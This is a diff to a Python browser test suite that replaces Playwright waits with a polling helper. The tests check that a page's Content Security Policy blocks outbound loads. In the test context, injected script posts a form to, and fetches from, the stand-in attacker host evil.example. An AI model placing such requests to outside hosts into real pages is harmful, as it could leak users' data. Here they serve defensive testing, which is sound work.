@@ -9,6 +9,7 @@ import av
 import numpy as np
 import pytest
 from browser import BROWSER, FLAGS
+from farm import wait_for
 from PIL import Image
 
 SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><rect width="90" height="90" fill="red"/>
@@ -140,7 +141,7 @@ if BROWSER or os.environ.get("CI"):
             page.goto(f"{api.http.base_url}/health?token={api.token}")
             for kind, make in SHOWN.items():
                 page.goto(f"{api.http.base_url}{put(api, make())}")
-                page.wait_for_function(f"({ready})(document.querySelector('img, video, audio'))", timeout=20_000)
+                wait_for(f"{kind} is there", lambda: page.evaluate(f"({ready})(document.querySelector('img, video, audio'))"), 20)
                 seen.append(kind)
         assert seen == [*SHOWN]
 
@@ -203,7 +204,7 @@ if BROWSER or os.environ.get("CI"):
                 add('form', {action: 'http://evil.example/form', method: 'post'}).submit()
                 fetch('http://evil.example/fetch').catch(() => {})
             }""")
-            page.wait_for_function("refused.length >= 9")
+            wait_for("nine are refused", lambda: page.evaluate("refused.length") >= 9)  # not by the page: its rules forbid `eval`
             refused = {o.split()[0] for o in page.evaluate("refused")}
             assert refused == {"script-src-elem", "script-src-attr", "style-src-elem", "img-src", "frame-src", "base-uri",
                                "form-action", "connect-src"}
